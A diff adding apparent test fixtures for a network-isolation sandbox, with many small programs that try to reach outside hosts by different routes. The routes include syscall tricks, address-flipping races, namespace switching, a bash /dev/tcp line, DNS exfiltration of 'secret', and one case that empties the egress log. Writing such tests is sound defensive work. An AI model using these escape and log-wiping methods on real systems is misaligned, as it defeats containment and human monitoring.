@@ -1,0 +1,342 @@
+"""Programs that try to get out, each by a way of its own, and programs that only talk to themselves."""
+
+from __future__ import annotations
+
+import platform
+import shutil
+import subprocess
+import sys
+from functools import cache
+from pathlib import Path
+
+C_HEAD = r"""
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <unistd.h>
+static struct sockaddr_in to(const char *host, int port) {
+  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
+  inet_pton(AF_INET, host, &a.sin_addr);
+  return a;
+}
+"""
+
+C_HEAD += r"""
+#include <time.h>
+static int more(int i) {  /* long enough for both threads to get their turns, and bounded */
+  static struct timespec start; struct timespec now; clock_gettime(CLOCK_MONOTONIC, &now);
+  if (!i) start = now;
+  return i < 20000 && (i < 100 || (now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 150);
+}
+"""
+
+RACE = r"""
+static struct sockaddr_in target;
+static volatile int stop;
+static volatile int go;
+static void *flip(void *x) {
+  unsigned in = inet_addr("127.0.0.1"), out = inet_addr("192.0.2.1");
+  while (!stop) { go = 1; *(volatile unsigned *)&target.sin_addr = in; *(volatile unsigned *)&target.sin_addr = out; }
+  return 0;
+}
+"""
+
+C_PROGRAMS = {
+    "connect": r"""int main(void) { struct sockaddr_in a = to("192.0.2.1", 80); int s = socket(AF_INET, SOCK_STREAM, 0);
+        connect(s, (void *)&a, sizeof a); return 0; }""",
+    "sendmmsg": r"""int main(void) {
+        struct sockaddr_in a = to("127.0.0.1", 9), b = to("192.0.2.1", 443); int s = socket(AF_INET, SOCK_DGRAM, 0);
+        struct iovec v = {"secret", 6}; struct mmsghdr m[2] = {0};
+        m[0].msg_hdr.msg_name = &a; m[0].msg_hdr.msg_namelen = sizeof a;
+        m[1].msg_hdr.msg_name = &b; m[1].msg_hdr.msg_namelen = sizeof b;
+        for (int i = 0; i < 2; i++) { m[i].msg_hdr.msg_iov = &v; m[i].msg_hdr.msg_iovlen = 1; }
+        syscall(SYS_sendmmsg, s, m, 2, 0); return 0; }""",
+    "unspec": r"""int main(void) { struct sockaddr_in a = to("192.0.2.1", 443); a.sin_family = AF_UNSPEC;
+        int s = socket(AF_INET, SOCK_DGRAM, 0); sendto(s, "secret", 6, 0, (void *)&a, sizeof a); return 0; }""",
+    "fastopen": r"""int main(void) { struct sockaddr_in a = to("192.0.2.1", 80); int s = socket(AF_INET, SOCK_STREAM, 0);
+        sendto(s, "secret", 6, MSG_FASTOPEN, (void *)&a, sizeof a); return 0; }""",
+    "io_uring": r"""int main(void) { char p[120] = {0}; syscall(425, 8, p); return 0; }""",
+    "int80": r"""int main(void) {
+        unsigned *m = (void *)0x10000000; 
+        #include <sys/mman.h>
+        m = mmap(m, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+        int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = to("192.0.2.1", 80);
+        memcpy(m + 16, &a, sizeof a); m[0] = s; m[1] = (unsigned)(unsigned long)(m + 16); m[2] = sizeof a;
+        long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(102L), "b"(3L), "c"((long)(unsigned long)m) : "memory");
+        return 0; }""",
+    "x32": r"""int main(void) { struct sockaddr_in a = to("192.0.2.1", 80); int s = socket(AF_INET, SOCK_STREAM, 0);
+        syscall(0x40000000 + 42, s, &a, sizeof a); return 0; }""",
+    "request_key": r"""int main(void) {
+        syscall(SYS_request_key, "dns_resolver", "secret.example", "", -2); return 0; }""",
+    "not_dumpable": r"""int main(void) { prctl(PR_SET_DUMPABLE, 0); struct sockaddr_in a = to("192.0.2.1", 80);
+        int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, (void *)&a, sizeof a); return 0; }""",
+    "race_connect": RACE
+    + r"""int main(void) { target = to("192.0.2.1", 80); pthread_t t; pthread_create(&t, 0, flip, 0); while (!go) sched_yield();
+        for (int i = 0; more(i); i++) { int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+          connect(s, (void *)&target, sizeof target); close(s); }
+        stop = 1; pthread_join(t, 0); return 0; }""",
+    "race_sendto": RACE
+    + r"""int main(void) { target = to("192.0.2.1", 443); pthread_t t; pthread_create(&t, 0, flip, 0); while (!go) sched_yield();
+        int s = socket(AF_INET, SOCK_DGRAM, 0);
+        for (int i = 0; more(i); i++) sendto(s, "secret", 6, 0, (void *)&target, sizeof target);
+        stop = 1; pthread_join(t, 0); return 0; }""",
+    "race_sendmsg": r"""
+        static struct sockaddr_in target; static struct msghdr m; static volatile int stop, go;
+        static void *flip(void *x) { while (!stop) { go = 1;
+            *(void *volatile *)&m.msg_name = 0; *(volatile unsigned *)&m.msg_namelen = 0;
+            *(volatile unsigned *)&m.msg_namelen = sizeof target; *(void *volatile *)&m.msg_name = &target; } return 0; }
+        int main(void) { target = to("192.0.2.1", 443); struct iovec v = {"secret", 6}; m.msg_iov = &v; m.msg_iovlen = 1;
+          pthread_t t; pthread_create(&t, 0, flip, 0); while (!go) sched_yield(); int s = socket(AF_INET, SOCK_DGRAM, 0);
+          for (int i = 0; more(i); i++) sendmsg(s, &m, MSG_NOSIGNAL);
+          stop = 1; pthread_join(t, 0); return 0; }""",
+    "race_descriptor": r"""
+        static volatile int stop, go; static int a, b, slot = 99;
+        static void *flip(void *x) { while (!stop) { go = 1; dup2(a, slot); dup2(b, slot); } return 0; }
+        int main(void) { struct sockaddr_in in = to("127.0.0.1", 8099), out = to("192.0.2.1", 443);
+          a = socket(AF_INET, SOCK_DGRAM, 0); b = socket(AF_UNIX, SOCK_DGRAM, 0); dup2(a, slot);
+          pthread_t t; pthread_create(&t, 0, flip, 0); while (!go) sched_yield();
+          for (int i = 0; more(i); i++) { connect(slot, (void *)&out, sizeof out); send(slot, "secret", 6, MSG_NOSIGNAL);
+            connect(slot, (void *)&in, sizeof in); send(slot, "secret", 6, MSG_NOSIGNAL); }
+          stop = 1; pthread_join(t, 0); return 0; }""",
+    "ok": r"""int main(void) { struct sockaddr_in a = to("127.0.0.1", 0); socklen_t n = sizeof a;
+        int l = socket(AF_INET, SOCK_STREAM, 0); if (bind(l, (void *)&a, n) || listen(l, 5)) return 1;
+        getsockname(l, (void *)&a, &n);
+        int s = socket(AF_INET, SOCK_STREAM, 0); if (connect(s, (void *)&a, n)) return 2;
+        int c = accept(l, 0, 0); char x[8]; struct iovec v = {"hello", 5}; struct msghdr m = {0}; m.msg_iov = &v; m.msg_iovlen = 1;
+        if (sendmsg(s, &m, 0) != 5 || read(c, x, 8) != 5) return 3; return 0; }""",
+}
+
+RUST = 'fn main() { let _ = std::net::TcpStream::connect("192.0.2.1:80"); }'
+GO = 'package main\nimport "net"\nfunc main() { net.Dial("tcp", "192.0.2.1:80") }\n'
+
+SOCKETS = "import socket\nfrom socket import *\nS = socket.socket if hasattr(socket, 'socket') else socket\n"
+"""What the Python programs below start with."""
+
+
+def quiet(code: str) -> str:
+    """A Python program that tries *code* and takes a refusal."""
+    body = "\n".join("    " + line for line in code.strip().split("\n"))
+    return f"import os, socket, subprocess, sys, time\ntry:\n{body}\nexcept OSError as error:\n    print(error)\n"
+
+
+PYTHON = {
+    "connect": ("socket.socket().connect(('192.0.2.1', 80))", "192.0.2.1"),
+    "a port above 1024": ("socket.socket().connect(('198.51.100.1', 443))", "198.51.100.1"),
+    "IPv6": ("socket.socket(10).connect(('2001:db8::1', 80))", "2001:db8::1"),
+    "IPv4 in IPv6": ("socket.socket(10).connect(('::ffff:192.0.2.1', 80))", "::ffff:192.0.2.1"),
+    "a host as bytes": ("socket.socket().connect((b'192.0.2.1', 80))", "192.0.2.1"),
+    "connect_ex": ("socket.socket().connect_ex(('192.0.2.1', 80))", "192.0.2.1"),
+    "the C module beneath": ("import _socket\n_socket.socket().connect(('192.0.2.1', 80))", "192.0.2.1"),
+    "sendto": ("socket.socket(2, 2).sendto(b'secret', ('192.0.2.1', 443))", "192.0.2.1"),
+    "sendto with flags": ("socket.socket(2, 2).sendto(b'secret', 0, ('192.0.2.1', 443))", "192.0.2.1"),
+    "sendmsg": ("socket.socket(2, 2).sendmsg([b'secret'], [], 0, ('192.0.2.1', 443))", "192.0.2.1"),
+    "connected datagrams": ("s = socket.socket(2, 2)\ns.connect(('192.0.2.1', 443))\ns.send(b'secret')", "192.0.2.1"),
+    "a name": ("socket.getaddrinfo('secret.example.com', 80)", "secret.example.com"),
+    "a DNS message by hand": (
+        "q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1'\n"
+        "socket.socket(2, 2).sendto(q, ('192.0.2.1', 53))",
+        "secret.example",
+    ),
+    "broadcast": (
+        "s = socket.socket(2, 2)\ns.setsockopt(1, 6, 1)\ns.sendto(b'secret', ('255.255.255.255', 443))",
+        "255.255.255.255",
+    ),
+    "multicast": ("socket.socket(2, 2).sendto(b'secret', ('224.0.0.251', 5353))", "224.0.0.251"),
+    "every interface": ("socket.socket().bind(('', 8080))", "0.0.0.0"),
+    "every interface, IPv6": ("socket.socket(10).bind(('::', 8080))", "::"),
+    "listen without bind": ("socket.socket().listen()", "0.0.0.0"),
+    "asyncio": (
+        "import asyncio\nasyncio.run(asyncio.wait_for(asyncio.open_connection('192.0.2.1', 80), 5))",
+        "192.0.2.1",
+    ),
+    "urllib": ("import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', timeout=5)", "192.0.2.1"),
+    "ctypes": (
+        "import ctypes, struct\nc = ctypes.CDLL(None)\ns = c.socket(2, 1, 0)\n"
+        "a = struct.pack('=H', 2) + struct.pack('!H', 80) + socket.inet_aton('192.0.2.1') + bytes(8)\n"
+        "c.connect(s, a, 16)",
+        "192.0.2.1",
+    ),
+    "an isolated child": (
+        "subprocess.run([sys.executable, '-I', '-S', '-c', 'import socket; socket.socket().connect_ex((\"192.0.2.1\", 80))'])",
+        "192.0.2.1",
+    ),
+    "a child without environment": (
+        "subprocess.run([sys.executable, '-c', 'import socket; socket.socket().connect_ex((\"192.0.2.1\", 80))'], env={})",
+        "192.0.2.1",
+    ),
+    "a daemon": (
+        "sys.stdout.flush()\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for fd in range(3): os.close(fd)\n"
+        "        time.sleep(0.6)\n        socket.socket().connect_ex(('192.0.2.1', 80))\n    os._exit(0)",
+        "192.0.2.1",
+    ),
+    "a service's socket": ("socket.socket(1).connect('service.sock')", "unix:service.sock"),
+    "a service's socket through a link": (
+        "os.symlink(os.path.abspath('service.sock'), f'link{os.getpid()}')\nsocket.socket(1).connect(f'link{os.getpid()}')",
+        "unix:link",
+    ),
+    "a bind that fails, then connect": (
+        "try:\n    socket.socket(1).bind('service.sock')\nexcept OSError: pass\nsocket.socket(1).connect('service.sock')",
+        "unix:service.sock",
+    ),
+    "a log service's socket": ("socket.socket(1, 2).sendto(b'secret', 'log.sock')", "unix:log.sock"),
+    "sendmsg to a log service": ("socket.socket(1, 2).sendmsg([b'secret'], [], 0, 'log.sock')", "unix:log.sock"),
+    "VSOCK": ("socket.socket(40, 1)", "socket(VSOCK"),
+    "packet": ("socket.socket(17, 3)", "socket(PACKET"),
+    "raw": ("socket.socket(2, 3, 1)", "socket(INET, raw"),
+    "ping": ("socket.socket(2, 2, 1)", "socket(INET, dgram"),
+    "SCTP": ("socket.socket(2, 1, 132)", "socket(INET, stream, protocol 132"),
+    "MPTCP": ("socket.socket(2, 1, 262).connect(('192.0.2.1', 80))", "192.0.2.1"),
+    "another namespace": (
+        "import ctypes\nctypes.CDLL(None).setns(os.open('/proc/self/ns/net', 0), 0)",
+        "another namespace",
+    ),
+    "a log that is emptied": (
+        "socket.socket().connect_ex(('192.0.2.1', 80))\n"
+        "[open(os.path.join(d, 'egress_log.jsonl'), 'w').close() for d in os.listdir('.') if d.startswith('out')]",
+        "192.0.2.1",
+    ),
+}  # fmt: skip
+
+WITHOUT_NAMESPACE = {
+    "somebody's proxy on loopback": ("socket.socket().connect(('127.0.0.1', 8099))", "127.0.0.1"),
+    "somebody's proxy by another spelling": ("socket.socket().connect(('0.0.0.0', 8099))", "0.0.0.0"),
+    "somebody's datagram service": ("socket.socket(2, 2).sendto(b'secret', ('127.0.0.1', 8099))", "127.0.0.1"),
+    "somebody's abstract socket": ("socket.socket(1).connect('\\0gk-test-service')", "unix:@gk-test-service"),
+    "a device of its own choice": ("s = socket.socket()\ns.setsockopt(1, 25, b'lo\\0')", "socket option"),
+    "a source route": (
+        "s = socket.socket()\ns.setsockopt(0, 4, bytes([131, 7, 4, 192, 0, 2, 1, 0]))",
+        "socket option",
+    ),
+    "descriptors of another process": (
+        "import ctypes\nctypes.CDLL(None).syscall(434, os.getppid(), 0)",
+        "another process",
+    ),
+}
+"""Ways that only matter where the network is shared."""
+
+C = {
+    "connect": "192.0.2.1", "sendmmsg": "192.0.2.1", "unspec": "192.0.2.1", "fastopen": "192.0.2.1",
+    "io_uring": "io_uring", "request_key": "the host's key service",
+}  # fmt: skip
+"""Name of a C program → the host in its event."""
+
+OTHERS = {
+    "perl": (("perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new('192.0.2.1:80')"), "192.0.2.1"),
+    "bash": (("bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/80; true"), "192.0.2.1"),
+    "node": (("node", "-e", "require('net').connect(80, '192.0.2.1').on('error', () => 0)"), "192.0.2.1"),
+    "node, a name": (
+        ("node", "-e", "new (require('dns').Resolver)({timeout: 300, tries: 1}).resolve4('secret.example.com', () => 0)"), "secret.example.com",
+    ),
+    "curl": (("sh", "-c", "curl -sm5 http://192.0.2.1/; true"), "192.0.2.1"),
+    "nsenter": (("sh", "-c", "nsenter --net=/proc/self/ns/net true; true"), "another namespace"),
+}  # fmt: skip
+
+HARMLESS = {
+    "loopback in all its spellings": """
+import socket
+for listen, hosts in (("127.0.0.1", ("127.0.0.1", "0.0.0.0", "localhost", "127.1")), ("127.0.0.2", ("127.0.0.2",)),
+                      ("::1", ("::1", "::"))):
+    server = socket.create_server((listen, 0), family=10 if ":" in listen else 2)
+    for host in hosts:
+        socket.create_connection((host, server.getsockname()[1])).close()
+    if listen == "127.0.0.1":
+        s = socket.socket(10); s.connect(("::ffff:127.0.0.1", server.getsockname()[1])); s.close()
+""",
+    "datagrams": """
+import socket
+a, b = socket.socket(2, 2), socket.socket(2, 2)
+a.bind(("127.0.0.1", 0)); a.settimeout(5)
+b.sendto(b"one", a.getsockname()); assert a.recv(9) == b"one"
+b.sendmsg([b"t", b"wo"], [], 0, a.getsockname()); assert a.recv(9) == b"two"
+b.connect(a.getsockname()); b.send(b"three"); assert a.recv(9) == b"three"
+""",
+    "UNIX sockets": """
+import array, os, socket, tempfile
+with tempfile.TemporaryDirectory() as folder:
+    path = os.path.join(folder, "s"); server = socket.socket(1); server.bind(path); server.listen()
+    client = socket.socket(1); client.connect(path); there, _ = server.accept()
+    assert client.getpeername() == path
+    os.chdir(folder); again = socket.socket(1); again.connect("s"); again.close()
+    r, w = os.pipe(); socket.send_fds(client, [b"x"], [w]); _, (fd,), _, _ = socket.recv_fds(there, 9, 1)
+    os.write(fd, b"through"); assert os.read(r, 9) == b"through"
+    s = socket.socket(1); s.bind("\\0gk-mine-%d" % os.getpid()); s.listen()
+    socket.socket(1).connect("\\0gk-mine-%d" % os.getpid())
+    d = socket.socket(1, 2); d.bind(os.path.join(folder, "d")); e = socket.socket(1, 2)
+    e.sendto(b"hello", os.path.join(folder, "d")); assert d.recv(9) == b"hello"
+""",
+    "multiprocessing": """
+import multiprocessing as mp
+def f(x): return x * x
+if __name__ == "__main__":
+    for method in ("fork", "spawn", "forkserver"):
+        with mp.get_context(method).Pool(2) as pool: assert pool.map(f, range(4)) == [0, 1, 4, 9]
+    with mp.Manager() as manager: assert list(manager.list([1, 2])) == [1, 2]
+""",
+    "asyncio": """
+import asyncio
+async def main():
+    async def echo(r, w): w.write(await r.readline()); await w.drain(); w.close()
+    server = await asyncio.start_server(echo, "127.0.0.1", 0)
+    async with server:
+        r, w = await asyncio.open_connection("localhost", server.sockets[0].getsockname()[1])
+        w.write(b"hi\\n"); assert await r.readline() == b"hi\\n"; w.close()
+asyncio.run(main())
+""",
+    "a server and a client of HTTP": """
+import http.server, threading, urllib.request
+s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
+s.RequestHandlerClass.log_message = lambda *a: None
+threading.Thread(target=s.serve_forever, daemon=True).start()
+assert urllib.request.urlopen("http://127.0.0.1:%d/" % s.server_port).status == 200
+s.shutdown()
+""",
+    "processes and pipes": """
+import subprocess, sys
+assert subprocess.run(["sh", "-c", "echo hi | cat"], capture_output=True).stdout == b"hi\\n"
+assert subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True).stdout == b"42\\n"
+import getpass, os, pwd, grp
+pwd.getpwuid(os.getuid()); os.path.expanduser("~root")
+""",
+}
+
+
+@cache
+def compiled(name: str, folder: Path, *flags: str) -> Path | str:
+    """The C program *name*, or why it cannot be had."""
+    if not shutil.which("gcc"):
+        return "gcc is not installed"
+    if name in ("int80", "x32") and platform.machine() != "x86_64":
+        return "for x86-64 alone"
+    source, target = folder / f"{name}.c", folder / (name + "".join(flags))
+    source.write_text(C_HEAD + C_PROGRAMS[name])
+    done = subprocess.run(["gcc", "-w", *flags, "-o", target, source, "-lpthread"], capture_output=True, text=True)
+    return target if done.returncode == 0 else f"gcc {' '.join(flags)}: {done.stderr[:200]}"
+
+
+@cache
+def built(language: str, folder: Path) -> Path | str:
+    """A small program in Rust or Go, or why it cannot be had."""
+    tool, name, source = {"rust": ("rustc", "out.rs", RUST), "go": ("go", "out.go", GO)}[language]
+    if not shutil.which(tool):
+        return f"{tool} is not installed"
+    (folder / name).write_text(source)
+    target = folder / f"{language}-program"
+    words = ["rustc", "-o", target, name] if language == "rust" else ["go", "build", "-o", target, name]
+    done = subprocess.run(words, cwd=folder, capture_output=True, text=True)
+    return target if done.returncode == 0 else f"{tool}: {done.stderr[:200]}"
+
+
+INTERPRETER = sys.executable
